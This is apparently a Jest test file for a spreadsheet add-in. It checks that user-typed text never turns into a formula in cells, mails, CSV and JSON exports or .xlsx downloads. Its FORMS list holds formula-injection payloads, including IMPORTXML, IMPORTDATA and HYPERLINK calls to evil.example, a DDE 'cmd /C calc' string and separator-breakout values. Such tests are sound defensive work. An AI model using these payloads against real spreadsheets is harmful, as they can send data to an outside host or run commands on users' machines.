/**
 * No text that somebody types becomes a formula in any cell, mail or file that the add-in makes: a round with hostile texts in every place for a
 * text ends, cell by cell, as one with harmless texts does, each text as it was typed.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import ExcelJS from '@protobi/exceljs';
import type { WorkbookFile } from '../../local/sheets/workbook-file';
import { a1 } from '../../src/core/workbook/a1';
import {
  APPRAISERS_COLUMNS,
  CRITERIA_COLUMNS,
  columnIndex,
  UNIT_COLUMNS,
  UNITS_COLUMNS,
} from '../../src/core/workbook/contract';
import { TAB } from '../../src/core/workbook/place';
import { xlsxOf } from '../local/export/exports';
import {
  HARMLESS,
  holdsText,
  type LaidOver,
  laidOver,
  valueDifferences,
  workbookDifferences,
} from './laid-over';
import type { NumberedRound } from './numbered-office';
import { openTexts, type Words } from './numbered-province';
import { playNumberedRound } from './numbered-round';
import { ALL_TELLING_WAYS } from './ways';

const FORMS: readonly Words[] = [
  (n) => `=1+${n}`,
  (n) => `=IMPORTXML("http://evil.example/${n}";"//a")`,
  (n) => `+cmd|' /C calc ${n}'!A0`,
  (n) => `-1+${n}`,
  (n) => `@SUM(${n})`,
  (n) => `\t=1+${n}`,
  (n) => `\r=1+${n}`,
  (n) => `'=1+${n}`,
  (n) => `=HYPERLINK("http://evil.example/${n}";"${n}")`,
  (n) => `＝1+${n}`,
  // Out of a text within a formula, out of a title, out of a line, out of a field.
  (n) => `";IMPORTXML("http://evil.example/${n}";"//a"))&("`,
  (n) => `'!A1;IMPORTDATA("http://evil.example/${n}");'`,
  (n) => `x${n}\n=1+1`,
  (n) => `a;=1+${n}`,
  (n) => `a,=1+${n}`,
  (n) => `a\t=1+${n}`,
];
const HOSTILE: Words = (number) => FORMS[number % FORMS.length]!(number);
/** What spreadsheet programs take for the beginning of a formula. */
const FORMULA = /^\s*[=+\-@＝]/;

type Sheet = WorkbookFile['workbook']['sheets'][number];
const keyOf = ({ developerMetadata }: Sheet): string =>
  developerMetadata?.find(({ metadataKey }) => metadataKey === 'cchc.tab')?.metadataValue ?? '';
const filesOf = ({ host, looks }: NumberedRound): WorkbookFile[] => [
  ...looks.map(([, file]) => file),
  ...host.workbooks.map((id) => host.spreadsheets.dump(id)),
];
const typedAsSuch = ({ typedAsSuch: typed }: NumberedRound, sheet: Sheet, cell: string): string | undefined =>
  typed.find((each) => each.tab === keyOf(sheet) && each.cell === cell)?.text;
const textsIn = (sheet: Sheet): string[] =>
  sheet.rows.flatMap(([, cells]) => cells.flatMap(({ value }) => value?.stringValue ?? []));

/** Fields of a line, cut as a program does that takes these for separators. */
const fieldsOf = (file: string, separator: RegExp): string[] => {
  const piece = new RegExp(`"(?:[^"]|"")*"|(?:(?!${separator.source})[^\\r\\n])+`, 'g');
  return (file.replace('\ufeff', '').match(piece) ?? []).map((field) =>
    field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field,
  );
};

describe.each(ALL_TELLING_WAYS)('where units fill in: %s', (way) => {
  let harmless: NumberedRound;
  let hostile: NumberedRound;
  let over: LaidOver;
  beforeAll(async () => {
    [harmless, hostile] = await Promise.all([
      playNumberedRound(HARMLESS, { way }),
      playNumberedRound(HOSTILE, { way }),
    ]);
    over = laidOver(harmless, hostile, HOSTILE);
  }, 240_000);
  afterAll(() => Promise.all([harmless?.host.close(), hostile?.host.close()]));

  describe('the round reaches every place', () => {
    test('each column of texts that people fill in holds one', () => {
      const { sheets } = harmless.host.spreadsheets.dump(harmless.workbook).workbook;
      const kinds = [
        ['units', /^units$/, UNITS_COLUMNS],
        ['appraisers', /^appraisers$/, APPRAISERS_COLUMNS],
        ['criteria', /^criteria:/, CRITERIA_COLUMNS],
        ['unit', /^unit:/, UNIT_COLUMNS],
      ] as const;
      const empty = kinds.flatMap(([kind, key, columns]) => {
        const cells = sheets.filter((sheet) => key.test(keyOf(sheet))).flatMap(({ rows }) => rows);
        return openTexts(kind, columns)
          .map((column) => columnIndex<string>(columns, column.key))
          .filter(
            (at) =>
              !cells.some(([, row]) =>
                row.some(({ column, value }) => column === at && holdsText(value?.stringValue ?? '')),
              ),
          )
          .map((at) => `${kind} ${columns[at]!.key}`);
      });
      expect(empty).toEqual([]);
    });

    test('texts are carried on into every kind of tab', () => {
      const reached = filesOf(harmless)
        .flatMap(({ workbook }) => workbook.sheets)
        .filter((sheet) => textsIn(sheet).some(holdsText))
        .map((sheet) => keyOf(sheet) || sheet.properties.title);
      const ofFiles: readonly string[] = [TAB.unitFiles, TAB.fileStart];
      const kinds = Object.values(TAB).filter((key) => !reached.includes(key));
      expect({ kinds, reached }).toEqual({
        kinds: way === 'none' ? ofFiles : [],
        reached: expect.arrayContaining(['Nhật ký điểm', 'Bản chụp']),
      });
      expect(harmless.host.workbooks).toHaveLength(4 + harmless.player.files.length);
    });
  });

  test('no cell of any workbook becomes a formula, and every text stands where it should', () => {
    const [files, found] = [filesOf(harmless), filesOf(hostile)];
    expect(found).toHaveLength(files.length);
    const exempt = (sheet: Sheet, cell: string): boolean => typedAsSuch(harmless, sheet, cell) !== undefined;
    expect(files.flatMap((file, at) => workbookDifferences(over, file, found[at]!, exempt))).toEqual([]);
  });

  test('a formula that a unit typed stays in its cell as typed, and is one nowhere else', () => {
    const formulas = hostile.typedAsSuch.filter(({ text }) => text.startsWith('='));
    expect(formulas.length).toBeGreaterThan(1);
    const { host, workbook, player } = hostile;
    for (const id of [workbook, ...player.files]) {
      // Where it is not the unit that fills in, what it typed is a text.
      const isFormula = id !== workbook || way === 'none';
      for (const { tab, cell, text } of formulas) {
        const sheet = host.spreadsheets.dump(id).workbook.sheets.find((each) => keyOf(each) === tab);
        const cells = (sheet?.rows ?? []).flatMap(([row, all]) =>
          all.map((each) => [a1(row, each.column), each] as const),
        );
        const expected = isFormula ? { formulaValue: text } : { stringValue: text };
        if (sheet) expect(new Map(cells).get(cell)?.value).toEqual(expected);
      }
    }
  });

  test('every cell shows what it would show with harmless texts', async () => {
    const shown = async ({ host, office }: NumberedRound): Promise<string[][][]> => {
      const tabs: string[][][] = [];
      for (const id of host.workbooks)
        for (const { properties, rows } of host.spreadsheets.dump(id).workbook.sheets) {
          const height = Math.max(1, ...rows.map(([row]) => row + 1));
          tabs.push(await host.display(office, id, properties.title, `A1:Z${height}`));
        }
      return tabs;
    };
    const sheets = harmless.host.workbooks.flatMap(
      (id) => harmless.host.spreadsheets.dump(id).workbook.sheets,
    );
    const [tabs, found] = [await shown(harmless), await shown(hostile)];
    const differ = tabs.flatMap((rows, tab) =>
      rows.flatMap((cells, row) =>
        cells.flatMap((text, column) => {
          const sheet = sheets[tab]!;
          const is = found[tab]?.[row]?.[column] ?? '';
          const skip = sheet.properties.hidden || typedAsSuch(harmless, sheet, a1(row, column)) !== undefined;
          return skip || over.same(text, is)
            ? []
            : [`${sheet.properties.title}!${a1(row, column)}: ${text} / ${is}`];
        }),
      ),
    );
    expect(differ).toEqual([]);
  });

  test('whatever is said or answered is said with the texts as they were typed', () => {
    expect(hostile.answers.map(([what]) => what)).toEqual(harmless.answers.map(([what]) => what));
    const differ = harmless.answers.flatMap(([what, answer], at) =>
      valueDifferences(over, JSON.parse(answer), JSON.parse(hostile.answers[at]![1]), what),
    );
    expect(differ).toEqual([]);
  });

  test('mails go to the same people with the same words, each subject on one line', () => {
    const [mails, found] = [harmless.host.outbox, hostile.host.outbox];
    expect(mails.filter(({ subject, text }) => holdsText(subject) && holdsText(text)).length).toBeGreaterThan(
      3,
    );
    expect(valueDifferences(over, mails, found)).toEqual([]);
    for (const { subject, html } of found) {
      expect(subject).not.toMatch(/[\r\n]/);
      expect(html).toBeUndefined();
    }
  });

  describe('results as files', () => {
    test.each(['units', 'items'])('%s: no field is a formula, and each text is there', (kind) => {
      const [fields, found] = [fieldsOf(harmless.files[kind]!, /;/), fieldsOf(hostile.files[kind]!, /;/)];
      expect(fields.filter(holdsText).length).toBeGreaterThan(5);
      expect(found).toHaveLength(fields.length);
      const differ = fields.flatMap((field, at) => {
        const is = found[at]!;
        const isFormula = FORMULA.test(is) && is !== field;
        return !isFormula && (over.same(field, is) || (is[0] === "'" && over.same(field, is.slice(1))))
          ? []
          : [`${field} / ${is}`];
      });
      expect(differ).toEqual([]);
    });

    test.each(['units', 'items'])('%s: nor where a program cuts at commas or tabs', (kind) => {
      const wrong = fieldsOf(hostile.files[kind]!, /[;,\t]/).filter((field) => FORMULA.test(field));
      expect(wrong.filter((field) => !/^-\d+$/.test(field))).toEqual([]);
    });

    test('JSON', () => {
      const [was, is] = [harmless, hostile].map(({ files }) => JSON.parse(files.json!));
      expect(valueDifferences(over, was, is)).toEqual([]);
    });
  });

  test('a downloaded .xlsx has formulas only where the workbook has', async () => {
    const { host, office } = hostile;
    const wrong: string[] = [];
    let texts = 0;
    for (const id of host.workbooks) {
      const { sheets } = host.spreadsheets.dump(id).workbook;
      const file = new ExcelJS.Workbook();
      const bytes = await host.spreadsheets.reading(office, id, (reading) => xlsxOf(reading));
      await file.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
      expect(file.worksheets).toHaveLength(sheets.length);
      sheets.forEach((sheet, at) => {
        const own = new Map(
          sheet.rows.flatMap(([row, cells]) => cells.map((each) => [a1(row, each.column), each.value])),
        );
        file.worksheets[at]!.eachRow((row) =>
          row.eachCell((cell) => {
            const value = own.get(cell.address);
            if (value?.stringValue !== undefined) texts += 1;
            if (cell.formula && value?.formulaValue === undefined)
              wrong.push(`${sheet.properties.title}!${cell.address}`);
          }),
        );
      });
    }
    expect(wrong).toEqual([]);
    expect(texts).toBeGreaterThan(1000);
  });
});
